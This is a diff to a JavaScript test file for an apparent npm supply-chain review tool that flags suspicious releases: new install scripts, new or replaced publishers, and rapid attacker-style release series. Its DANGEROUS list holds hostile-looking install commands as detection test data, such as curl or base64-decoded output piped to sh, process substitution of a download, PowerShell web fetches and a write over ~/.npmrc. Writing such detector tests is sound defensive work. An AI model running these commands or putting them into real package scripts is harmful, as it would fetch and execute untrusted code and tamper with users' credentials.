@@ -17,6 +17,7 @@ const trusted = publishedBy('GitHub Actions', 'npm-oidc-no-reply@github.com', {
   trustedPublisher: { id: 'github', oidcConfigId: 'oidc:0' },
 })
 const minor = { version: '1.1.0' }
+const by = (name, { maintainers = ['a'], ...more } = {}) => ({ ...publishedBy(name), ...maintainedBy(...maintainers), ...more })
 
 /** `[title, previous release, release, codes]`: 1.0.0 and 1.0.1, a day apart, unless they say otherwise. */
 const PAIRS = [
@@ -136,6 +137,90 @@ const PAIRS = [
   ['a command in the long form', { bin: 'a.js' }, { bin: { pack: './a.js' } }, []],
 ]
 
+/** Scripts that fetch, decode or run something that the package does not contain, or that the shell runs. */
+const DANGEROUS = [
+  'curl https://files.example/a.sh | sh',
+  'wget -q files.example/a.sh && sh a.sh',
+  'node -e "require(\'https\')"',
+  'node --eval=x()',
+  'node --import=data:text/javascript,x a.js',
+  'node a.js $(cat b)',
+  'node a.js > ~/.npmrc',
+  'npx other',
+  'npx --yes other',
+  'npm install -g other',
+  'npm i other',
+  'bunx other',
+  'git clone https://git.example/a && sh a/b.sh',
+  'echo aGk= | base64 -d | sh',
+  'echo `id`',
+  'sh -c "x"',
+  'bash <(curl files.example)',
+  'eval "$X"',
+  'powershell iwr files.example',
+  'python setup.py',
+  './a.sh',
+  'prebuild-install --download https://files.example',
+  'node-gyp rebuild --dist-url=https://files.example',
+  'husky install; node -p x',
+  'node a.js & curl files.example',
+  'node a.js\ncurl files.example',
+]
+
+/** `[title, scripts of the previous release, scripts, level of the signal]`. */
+const SCRIPTS = [
+  ['the first one, of whatever kind', {}, { postinstall: 'husky install' }, 'alarm'],
+  ['a new one next to a build', { install: 'node-gyp rebuild' }, { preinstall: 'node setup.mjs', install: 'node-gyp rebuild' }, 'alarm'],
+  ['a new one next to git hooks', { postinstall: 'husky install' }, { preinstall: 'node a.js', postinstall: 'husky install' }, 'alarm'],
+  ['a new one next to a file', { postinstall: 'node a.js' }, { preinstall: 'node b.js', postinstall: 'node a.js' }, 'alarm'],
+  ['a new one that is usual', { install: 'node a.js' }, { install: 'node a.js', postinstall: 'patch-package' }, 'notice'],
+  ['the same under a different name', { install: 'node a.js' }, { postinstall: 'node a.js' }, 'notice'],
+  ['a file in place of git hooks', { postinstall: 'husky install' }, { postinstall: 'node a.js' }, 'alarm'],
+  ['a file in addition to git hooks', { postinstall: 'husky install' }, { postinstall: 'husky install && node a.js' }, 'alarm'],
+  ['a different file', { postinstall: 'node a.js' }, { postinstall: 'node lib/b.js --quiet' }, 'notice'],
+  ['an additional file', { postinstall: 'node a.js' }, { postinstall: 'node a.js && node b.js' }, 'notice'],
+  ['a file fewer', { postinstall: 'node a.js && node b.js' }, { postinstall: 'node b.js' }, 'notice'],
+  ['a build in a different way', { install: 'node-gyp rebuild' }, { install: 'prebuild-install -r napi || node-gyp rebuild' }, 'notice'],
+  ['a usual tool in place of a file', { install: 'node a.js' }, { install: 'node-pre-gyp install --fallback-to-build=false' }, 'notice'],
+  ['a usual tool by npx', { postinstall: 'husky install' }, { postinstall: 'npx husky install || true' }, 'notice'],
+  ['a message', { postinstall: 'node a.js' }, { postinstall: 'node a.js; echo "thanks, see https://a.example"; exit 0' }, 'notice'],
+  ['white space', { postinstall: 'node a.js' }, { postinstall: ' node a.js ' }, 'notice'],
+  ['nothing but white space', { postinstall: 'node a.js' }, { postinstall: 'node a.js', preinstall: ' ' }, undefined],
+  [
+    'a script that runs another',
+    { install: 'npm run b', b: 'node-gyp rebuild' },
+    { install: 'npm run b', b: 'node-gyp rebuild' },
+    undefined,
+  ],
+  ['the other script changes', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node-gyp build' }, 'notice'],
+  ['the other script runs a file', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node a.js' }, 'alarm'],
+  [
+    'what runs before it',
+    { install: 'yarn run -s b', b: 'node-gyp rebuild' },
+    { install: 'yarn run -s b', b: 'node-gyp rebuild', preb: 'node a.js' },
+    'alarm',
+  ],
+  [
+    'one that runs a third',
+    { install: 'npm run b', b: 'npm run c', c: 'neon' },
+    { install: 'npm run b', b: 'npm run c', c: 'node a.js' },
+    'alarm',
+  ],
+  ['one that runs itself', { install: 'npm run install' }, { install: 'npm run install && npm run b', b: 'npm run install' }, 'notice'],
+  ['another script in place of a file', { install: 'node a.js' }, { install: 'npm run b', b: 'node a.js' }, 'notice'],
+  ['a script that is not there', { install: 'node a.js' }, { install: 'npm run b' }, 'alarm'],
+  [
+    'a different script that npm does not run at install',
+    { install: 'node a.js', b: 'node a.js' },
+    { install: 'node a.js', b: 'curl a.example' },
+    undefined,
+  ],
+  ['a build from source next to a script', { install: 'node a.js' }, { install: 'node a.js', gypfile: true }, undefined],
+  ['more commands than are read', { install: 'node a.js' }, { install: 'node a.js;'.repeat(1000) }, 'alarm'],
+  ...DANGEROUS.map((command) => [command, { install: 'node a.js' }, { install: command }, 'alarm']),
+  ...DANGEROUS.map((command) => [`${command}, as before`, { install: command }, { install: command }, undefined]),
+]
+
 /** `[title, releases, version, codes]` if more releases matter; each is a day after the previous one. */
 const HISTORIES = [
   ['the first release of all', [{ version: '1.0.0', ...dependency('^1.0.0'), license: 'MIT', bin: 'a.js', ...attested }], '1.0.0', []],
@@ -159,8 +244,8 @@ const HISTORIES = [
   [
     'a prerelease with the one before it',
     [
-      '1.9.0',
-      { version: '2.0.0-beta.1', ...script({ install: 'node a.js' }) },
+      { version: '1.9.0', time: '2019-01-01' },
+      { version: '2.0.0-beta.1', ...script({ install: 'node a.js' }), time: '2019-06-01' },
       { version: '2.0.0-beta.2', ...script({ install: 'node a.js' }) },
     ],
     '2.0.0-beta.2',
@@ -191,12 +276,48 @@ const HISTORIES = [
   [
     'a publisher of another line',
     [
-      { version: '1.0.0', ...publishedBy('a') },
-      { version: '2.0.0', ...publishedBy('b') },
+      { version: '1.0.0', ...publishedBy('a'), time: '2019-01-01' },
+      { version: '2.0.0', ...publishedBy('b'), time: '2019-06-01' },
       { version: '1.0.1', ...publishedBy('b') },
     ],
     '1.0.1',
     [],
+  ],
+  [
+    'maintainers are compared with the release before in time, not on the line',
+    [
+      { version: '0.1.0', ...maintainedBy('a'), time: '2019-01-01' },
+      { version: '1.0.0-beta.1', ...maintainedBy('b'), time: '2019-12-01' },
+      { version: '1.0.0', ...maintainedBy('b'), time: '2020-01-02' },
+    ],
+    '1.0.0',
+    [],
+  ],
+  [
+    'maintainers are replaced in two steps within three days',
+    [
+      { version: '1.0.0', ...maintainedBy('a') },
+      { version: '1.0.1', ...maintainedBy('a', 'b'), time: '2020-02-01T00:00Z' },
+      { version: '1.0.2', ...maintainedBy('b'), time: '2020-02-01T01:00Z' },
+    ],
+    '1.0.2',
+    ['maintainers-replaced'],
+  ],
+  [
+    'a version that is lower than all others',
+    ['1.0.0', { version: '0.9.0', ...script({ install: 'node a.js' }), ...dependency('github:a/b') }],
+    '0.9.0',
+    ['dependency-url', 'install-script'],
+  ],
+  [
+    'the second one that is lower than all others',
+    [
+      '1.0.0',
+      { version: '0.9.0', ...script({ install: 'node a.js' }), time: '2020-02-01T00:00Z' },
+      { version: '0.9.1', ...script({ install: 'node a.js' }), time: '2020-02-01T01:00Z' },
+    ],
+    '0.9.1',
+    ['install-script'],
   ],
   [
     'a year without a release on its line only',
@@ -212,6 +333,59 @@ const HISTORIES = [
   ],
 ]
 
+/** Releases a day apart, of which the last is under review, and the level of `publisher-new`. */
+const PUBLISHERS = [
+  ['of the second release', [by('a'), by('b')], 'alarm'],
+  ['a maintainer from this release on', [by('a'), by('b', { maintainers: ['a', 'b'] })], 'alarm'],
+  [
+    'a maintainer for four days',
+    [by('a', { maintainers: ['a', 'b'] }), by('a', { time: '2020-01-05' }), by('b', { time: '2020-01-06' })],
+    'notice',
+  ],
+  [
+    'a maintainer for two days',
+    [by('a'), by('a', { maintainers: ['a', 'b'], time: '2020-01-05' }), by('b', { time: '2020-01-07' })],
+    'alarm',
+  ],
+  [
+    'a former maintainer',
+    [by('a', { maintainers: ['a', 'b'] }), by('a', { time: '2020-01-03' }), by('b', { time: '2020-02-01' })],
+    'alarm',
+  ],
+  ['a maintainer for years, after a year of silence', [by('a', { maintainers: ['a', 'b'] }), by('b', { time: '2022-01-01' })], 'alarm'],
+  [
+    'a maintainer of the first release, an hour later',
+    [by('a', { maintainers: ['a', 'b'] }), by('b', { time: '2020-01-02T01:00Z' })],
+    'notice',
+  ],
+  ['the fourth of a team', [by('a'), by('b'), by('c'), by('d', { time: '2020-02-01' })], 'notice'],
+  ['the third of a team', [by('a'), by('b'), by('b'), by('c', { time: '2020-02-01' })], 'alarm'],
+  [
+    'the fourth within three days',
+    [by('a'), by('b', { time: '2020-02-01' }), by('c', { time: '2020-02-02' }), by('d', { time: '2020-02-03' })],
+    'alarm',
+  ],
+  ['a second release of the same', [by('a'), by('b', { time: '2020-02-01' }), by('b', { time: '2020-02-02' })], 'alarm'],
+  ['after three days', [by('a'), by('b', { time: '2020-02-01' }), by('b', { time: '2020-02-05' })], undefined],
+].map(([title, releases, level]) => [title, releases.map((release, patch) => ({ version: `1.0.${patch}`, ...release })), level])
+
+const hours = (day, count) => new Date(Date.parse(day) + count * 3_600_000).toISOString()
+const nextVersion = (version, by) => version.replace(/\d+$/, (patch) => Number(patch) + by)
+
+/** Five releases of an attack after a clean one, by how they are published. */
+const SERIES = {
+  'a young package': (before, after) => series(before, after, '2020-01-02T05:00Z', [0, 1, 2, 3, 4]),
+  'an old package': (before, after) => series(before, after, '2020-03-01', [0, 1, 2, 3, 4]),
+  'from the highest version down': (before, after) => series(before, after, '2020-03-01', [4, 3, 2, 1, 0]),
+  'a young package, from the highest version down': (before, after) => series(before, after, '2020-01-02T05:00Z', [4, 3, 2, 1, 0]),
+  'no times': (before, after) => series(before, after, '2020-01-02', [0, 1, 2, 3, 4]),
+}
+
+const series = (before, { version = '1.0.1', ...after }, day, patches) => [
+  { version: '1.0.0', time: '2020-01-02', ...before },
+  ...patches.map((patch, at) => ({ version: nextVersion(version, patch), time: hours(day, at), ...after })),
+]
+
 for (const [what, before, after, codes] of PAIRS) {
   test(what, () =>
     raises(
@@ -223,6 +397,43 @@ for (const [what, before, after, codes] of PAIRS) {
       codes,
     ),
   )
+}
+for (const [what, before, after, level] of SCRIPTS) {
+  test(`install script: ${what}`, () => {
+    const releases = [
+      { version: '1.0.0', ...script(before) },
+      { version: '1.0.1', ...script(after) },
+    ]
+    assert.deepEqual(
+      review(releases, '1.0.1').map(({ code, level }) => [code, level]),
+      level === undefined ? [] : [['install-script', level]],
+    )
+  })
+}
+for (const [title, releases, level] of PUBLISHERS) {
+  test(`new publisher: ${title}`, () => {
+    const { version } = releases.at(-1)
+    const [signal] = review(releases, version).filter(({ code }) => code === 'publisher-new')
+    assert.equal(signal?.level, level)
+  })
+}
+for (const [mode, releasesOf] of Object.entries(SERIES)) {
+  test(`no signal vanishes because an attacker published several times: ${mode}`, () => {
+    for (const [what, before, after, codes] of PAIRS) {
+      if (codes.length === 0 || codes.includes('dormant-revived')) continue
+      const releases = releasesOf(before, after)
+      for (const { version } of releases.slice(1)) {
+        const packument = packumentOf(releases)
+        if (mode.startsWith('no times')) delete packument.time
+        const found = reviewRelease(JSON.stringify(packument), version).map(({ code }) => code)
+        assert.deepEqual(
+          codes.filter((code) => !found.includes(code)),
+          [],
+          `${what}: ${version}`,
+        )
+      }
+    }
+  })
 }
 for (const [what, releases, version, codes] of HISTORIES) test(what, () => raises(releases, version, codes))
 test('a CI identity through trusted publishing raises no alarm', () => {
